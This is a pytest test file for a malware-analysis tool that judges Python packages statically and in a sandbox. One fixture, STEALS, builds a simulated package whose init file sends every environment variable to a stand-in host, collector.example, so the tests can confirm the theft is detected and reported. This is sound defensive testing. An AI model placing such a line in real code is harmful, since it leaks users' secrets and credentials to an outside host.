"""One target from its name to its verdict, with the real stages; what is run, is run in the real sandbox."""

from pathlib import Path

import pytest

from biopsy.errors import UsageError
from biopsy.model.behaviour import Kind
from biopsy.model.dossier import Analysis, Call
from biopsy.model.run import Status
from biopsy.pipeline import Options, analyze, show

PYTHON = "import os, urllib.request\n"
STEALS = PYTHON + (
    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
)


def _package(folder: Path, code: str) -> Path:
    (folder / "sim_thing").mkdir(parents=True)
    (folder / "sim_thing" / "__init__.py").write_text(code)
    setup = "from setuptools import setup\nsetup(name='sim-thing', version='1.0', packages=['sim_thing'])\n"
    (folder / "setup.py").write_text(setup)
    return folder


def _analyse(target: Path, home: Path, **options: object) -> Analysis:
    chosen = Options(home=home, **options)  # type: ignore[arg-type]
    (analysis,) = analyze(str(target), chosen, lambda _text, _done: None)
    return analysis


def test_a_theft_is_seen_by_reading_alone(tmp_path: Path) -> None:
    analysis = _analyse(_package(tmp_path / "sim", STEALS), tmp_path / "home", static_only=True)
    assert analysis.verdict.call is Call.MALICIOUS


def test_what_was_only_read_is_never_benign(tmp_path: Path) -> None:
    analysis = _analyse(_package(tmp_path / "sim", PYTHON), tmp_path / "home", static_only=True)
    assert analysis.verdict.call is Call.UNKNOWN


def test_the_same_folder_is_the_same_artifact(tmp_path: Path) -> None:
    folder = _package(tmp_path / "sim", PYTHON)
    first = _analyse(folder, tmp_path / "home", static_only=True)
    second = _analyse(folder, tmp_path / "home", static_only=True)
    assert first.dossier.artifact.sha256 == second.dossier.artifact.sha256


def test_a_kept_analysis_is_judged_again_without_running(tmp_path: Path) -> None:
    analysis = _analyse(_package(tmp_path / "sim", STEALS), tmp_path / "home", static_only=True)
    again = show(tmp_path / "home", analysis.dossier.run_id)
    assert (again.verdict, again.dossier.behaviours) == (analysis.verdict, analysis.dossier.behaviours)


def test_nothing_temporary_stays_in_the_home(tmp_path: Path) -> None:
    _analyse(_package(tmp_path / "sim", PYTHON), tmp_path / "home", static_only=True)
    assert list((tmp_path / "home" / "tmp").iterdir()) == []


@pytest.mark.parametrize("content", [b"", b"not an archive", b"PK\x03\x04" + b"\x00" * 64, b"\x1f\x8b\x08"])
def test_what_is_no_package_is_refused_with_a_line(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "thing-1.0.tar.gz"
    path.write_bytes(content)
    with pytest.raises(UsageError):
        _analyse(path, tmp_path / "home", static_only=True)


@pytest.mark.sandbox
def test_a_phase_that_does_not_exist_is_refused_with_those_that_do(tmp_path: Path, home: Path) -> None:
    with pytest.raises(UsageError, match="install, start, import"):
        _analyse(_package(tmp_path / "sim", PYTHON), home, phases=("frobnicate",))


@pytest.mark.sandbox
def test_phases_left_out_leave_the_verdict_unknown(tmp_path: Path, home: Path) -> None:
    analysis = _analyse(
        _package(tmp_path / "sim", PYTHON), home, profiles=("laptop",), phases=("install", "start")
    )
    skipped = {o.phase for o in analysis.dossier.outcomes if o.status is Status.SKIPPED}
    assert (analysis.verdict.call, skipped) == (Call.UNKNOWN, {"import", "scripts", "execute", "later"})


@pytest.mark.sandbox
def test_a_theft_is_seen_in_the_sandbox_with_what_left_and_where_to(tmp_path: Path, home: Path) -> None:
    analysis = _analyse(
        _package(tmp_path / "sim", STEALS), home, profiles=("github-actions",), phases=("install", "import")
    )
    leaks = {b.value.partition(" as ")[0] for b in analysis.dossier.behaviours if b.kind is Kind.CANARY_LEAK}
    assert any(leak.endswith("> collector.example:443") for leak in leaks)
    assert analysis.verdict.call is Call.MALICIOUS


@pytest.mark.sandbox
def test_a_package_that_does_nothing_is_benign_under_both_profiles(tmp_path: Path, home: Path) -> None:
    analysis = _analyse(_package(tmp_path / "sim", PYTHON), home)
    assert (analysis.verdict.call, {o.profile for o in analysis.dossier.outcomes}) == (
        Call.BENIGN,
        {"laptop", "github-actions"},
    )
